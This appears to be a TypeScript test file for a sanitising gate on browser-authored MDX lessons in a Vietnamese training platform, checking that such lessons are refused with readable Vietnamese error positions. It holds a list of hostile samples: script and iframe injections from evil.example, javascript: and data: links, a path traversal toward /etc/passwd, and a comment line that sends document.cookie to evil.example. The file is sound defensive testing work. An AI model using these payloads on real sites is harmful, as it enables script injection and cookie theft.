// Hostile lessons typed into the browser editor: every one is refused with a line:column reason,
// and none of them runs (the test watches for side effects).
import assert from "node:assert/strict";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { describe, test } from "node:test";
import { compileLesson } from "~/mdx/compile.server";
import { gateAuthored, gateAuthoredMdx } from "~/mdx/gate.server";

const MARK = path.join(os.tmpdir(), `taphuan-gate-${process.pid}`);
const g = globalThis as { __pwned?: boolean };
const opts = { hasImage: (f: string) => f === "anh-that.png", assetUrl: "/course-files/x/" };
const side = `globalThis.__pwned = true; require("fs").writeFileSync(${JSON.stringify(MARK)}, "x")`;

const hostile: [string, string][] = [
  ["expression", `Xin chào {${side}}`],
  ["expression in a flow block", `{(() => { ${side} })()}`],
  ["import", `import fs from "node:fs"\n\n# Bài`],
  ["export", `export const x = (() => { ${side} })()`],
  ["export default", `export default function Layout() { return null }`],
  ["script tag", `<script>${side}</script>`],
  ["script inline", `Văn bản <script src="https://evil.example/x.js"></script>`],
  ["iframe", `<iframe src="https://evil.example"></iframe>`],
  ["style", `<style>{"body{display:none}"}</style>`],
  ["object", `<object data="x.swf"></object>`],
  ["embed", `<embed src="x.swf" />`],
  ["img onerror", `<img src="x" onerror="alert(1)" />`],
  ["event handler on a component", `<Callout type="note" onClick="alert(1)">\n\nx\n\n</Callout>`],
  ["expression prop", `<Callout type={${side}}>\n\nx\n\n</Callout>`],
  ["spread prop", `<Callout {...globalThis}>\n\nx\n\n</Callout>`],
  ["width expression", `<Figure src="anh-that.png" alt="a" width={${side}} />`],
  ["unknown component", `<Danger>chữ</Danger>`],
  ["lowercase html div", `<div dangerouslySetInnerHTML="x">y</div>`],
  ["a with javascript: href", `<a href="javascript:alert(1)">bấm</a>`],
  ["markdown javascript: link", `[bấm vào đây](javascript:alert(1))`],
  ["markdown data: link", `[tải](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`],
  ["markdown vbscript: link", `[x](vbscript:msgbox)`],
  ["reference-style javascript: link", `[bấm][1]\n\n[1]: javascript:alert(1)`],
  ["external image", `![ảnh](https://evil.example/track.png)`],
  ["data: image", `![ảnh](data:image/png;base64,AAAA)`],
  ["image without alt", `![](anh-that.png)`],
  ["figure with javascript: src", `<Figure src="javascript:alert(1)" alt="x" />`],
  ["figure with path traversal", `<Figure src="../../../etc/passwd" alt="x" />`],
  ["figure missing alt", `<Figure src="anh-that.png" />`],
  ["callout title with javascript: url", `<Callout type="note" title="javascript:alert(1)">\n\nx\n\n</Callout>`],
  ["frontmatter", `---\ntitle: x\n---\n\nchữ`],
  ["huge input", "a".repeat(70_000)],
  ["too many lines", "dòng\n".repeat(3_200)],
  ["deeply nested quotes", `${"> ".repeat(40)}sâu`],
  ["deeply nested components", `${"<Callout>\n\n".repeat(20)}x\n\n${"</Callout>\n\n".repeat(20)}`],
  ["unclosed component", `<Callout type="note">\n\nkhông đóng`],
  ["broken JSX", `<Callout type="note" title=>x</Callout>`],
  ["html comment trick", `<!-- ${side} -->`],
  ["JSX in attribute", `<Term word=<b>x</b>>y</Term>`],
];

describe("the gate for browser-authored MDX", () => {
  test(`rejects each of ${hostile.length} hostile samples with line, column and a reason, and runs none`, async () => {
    assert.ok(hostile.length >= 30);
    fs.rmSync(MARK, { force: true });
    for (const [name, source] of hostile) {
      const problems = gateAuthoredMdx(source, opts);
      assert.ok(problems.length > 0, `${name}: accepted`);
      for (const p of problems) {
        assert.ok(Number.isInteger(p.line) && p.line! >= 1, `${name}: line`);
        assert.ok(Number.isInteger(p.column) && p.column! >= 1, `${name}: column`);
        assert.match(p.message, /\p{L}{3}/u, `${name}: a reason`);
        assert.doesNotMatch(p.message, /^(Error|undefined)/, `${name}: a readable reason`);
      }
    }
    assert.equal(g.__pwned, undefined, "no sample ran");
    assert.equal(fs.existsSync(MARK), false, "no sample touched the file system");
  });

  test("positions point at the offending line", () => {
    const [p] = gateAuthoredMdx("Dòng một.\n\nDòng hai {1+1}.", opts);
    assert.equal(p!.line, 3);
    assert.equal(p!.column, 10);
  });

  test("accepts a normal lesson with every component, a table and a safe link, and it compiles", async () => {
    const good = [
      "## Mở đầu",
      "",
      "Xem [Cổng Dịch vụ công](https://dichvucong.gov.vn) hoặc [mục dưới](#cac-buoc).",
      "",
      '<Callout type="warning" title="Lưu ý">',
      "",
      "Không chia sẻ mật khẩu.",
      "",
      "</Callout>",
      "",
      "<Steps>",
      "",
      "1. Bước một.",
      "2. Bước hai.",
      "",
      "</Steps>",
      "",
      '<Figure src="anh-that.png" alt="Màn hình đăng nhập" caption="Hình 1" width={480} />',
      "",
      "![Ảnh minh họa](anh-that.png)",
      "",
      '<Term word="Toàn trình">',
      "",
      "Cả thủ tục làm trên mạng.",
      "",
      "</Term>",
      "",
      "<Checklist>",
      "",
      "- Đã kiểm tra.",
      "",
      "</Checklist>",
      "",
      "| Cột | Giá trị |",
      "|---|---|",
      "| a | 1 |",
      "",
      "<Summary>",
      "",
      "- Ý chính.",
      "",
      "</Summary>",
    ].join("\n");
    assert.deepEqual(gateAuthoredMdx(good, opts), []);
    const compiled = await compileLesson(good, { dir: os.tmpdir(), ...opts });
    assert.ok(compiled.ok, JSON.stringify(!compiled.ok && compiled.problems));
    assert.match(compiled.html, /<img src="\/course-files\/x\/anh-that.png" alt="Màn hình đăng nhập"/);
    assert.match(compiled.html, /<table>/);
  });
});

// What trainers really paste: ordinary Markdown that MDX alone reads as JSX or JavaScript.
const pasted: [string, string, RegExp][] = [
  ["less than a number", "Thời hạn giải quyết <5 ngày làm việc.", /Thời hạn giải quyết &lt;5 ngày làm việc\./],
  ["a < b in text", "Nếu a < b thì chọn a; nếu x <= y thì chọn y.", /Nếu a &lt; b thì chọn a; nếu x &lt;= y thì chọn y\./],
  [
    "a placeholder in braces",
    "Kính gửi {họ tên}, đơn vị {tên đơn vị}, ngày {dd/mm/yyyy}.",
    /Kính gửi \{họ tên\}, đơn vị \{tên đơn vị\}, ngày \{dd\/mm\/yyyy\}\./,
  ],
  [
    "a code block indented by four spaces",
    "Gõ lệnh:\n\n    ping dichvucong.gov.vn\n    if (a < b) { x++ }\n\nRồi bấm Enter.",
    /<pre><code>ping dichvucong.gov.vn\nif \(a &lt; b\) \{ x\+\+ \}\n<\/code><\/pre>/,
  ],
  [
    "an autolink",
    "Xem <https://dichvucong.gov.vn/p/home/dvc-trang-chu.html> hoặc viết cho <hotro@dichvucong.gov.vn>.",
    /<a href="https:\/\/dichvucong.gov.vn\/p\/home\/dvc-trang-chu.html">https:\/\/dichvucong.gov.vn\/p\/home\/dvc-trang-chu.html<\/a>.*<a href="mailto:hotro@dichvucong.gov.vn">/,
  ],
  [
    "an HTML comment",
    "<!-- Ghi chú cho người soạn: bổ sung ảnh sau -->\n\nNội dung bài.\n\nCâu <!-- ghi chú giữa dòng --> tiếp theo.",
    /^<p>Nội dung bài\.<\/p>\n<p>Câu {2}tiếp theo\.<\/p>$/,
  ],
];

describe("what trainers paste", () => {
  for (const [name, source, html] of pasted) {
    test(`accepts ${name}, and it renders as text`, async () => {
      assert.deepEqual(gateAuthoredMdx(source, opts), []);
      const { mdx } = gateAuthored(source, opts);
      const compiled = await compileLesson(mdx, { dir: os.tmpdir(), ...opts });
      assert.ok(compiled.ok, JSON.stringify(!compiled.ok && compiled.problems));
      assert.match(compiled.html.trim(), html);
    });
  }

  test("code in braces or in a comment is still refused, at the place it was typed", () => {
    const [p] = gateAuthoredMdx("Đầu bài\n\n<!-- ghi chú -->\n\nKính gửi {họ tên}, tổng là {1+1}.", opts);
    assert.equal(p!.line, 5);
    assert.equal(p!.column, 28);
    const [c] = gateAuthoredMdx("Chữ\n\n<!-- fetch('https://evil.example/?' + document.cookie) -->", opts);
    assert.equal(c!.line, 3);
    assert.match(c!.message, /mã lệnh/);
  });

  test("every refusal is said in Vietnamese, never in the parser's English", () => {
    const broken = [
      "Kính gửi {x = 1; y()}",
      `<Callout type="note">\n\nkhông đóng`,
      "a<b",
      `<Callout type="note" title=>x</Callout>`,
      "<Summary>\n\nx\n\n</Steps>",
      "</Callout>",
      "<!-- chưa đóng",
      "{".repeat(40),
    ];
    for (const source of broken) {
      const problems = gateAuthoredMdx(source, opts);
      assert.ok(problems.length > 0, `${source}: accepted`);
      for (const p of problems) {
        assert.doesNotMatch(p.message, /acorn|Unexpected|expected|Could not|character|MDX/i, `${source}: ${p.message}`);
        assert.match(p.message, /[ăâđêôơưạảấầẩẫậắằẳẵặẹẻẽếềểễệỉịọỏốồổỗộớờởỡợụủứừửữựỳỵỷỹ]/i, `${source}: Vietnamese`);
      }
    }
  });

  test("footnotes are labelled in Vietnamese", async () => {
    const source = "Theo Nghị định[^1].\n\n[^1]: Nghị định số 45/2020/NĐ-CP.";
    assert.deepEqual(gateAuthoredMdx(source, opts), []);
    const compiled = await compileLesson(gateAuthored(source, opts).mdx, { dir: os.tmpdir(), ...opts });
    assert.ok(compiled.ok);
    assert.match(compiled.html, />Chú thích</);
    assert.match(compiled.html, /aria-label="Quay lại chỗ dẫn chú thích 1"/);
    assert.doesNotMatch(compiled.html, /Footnotes|Back to/);
  });
});
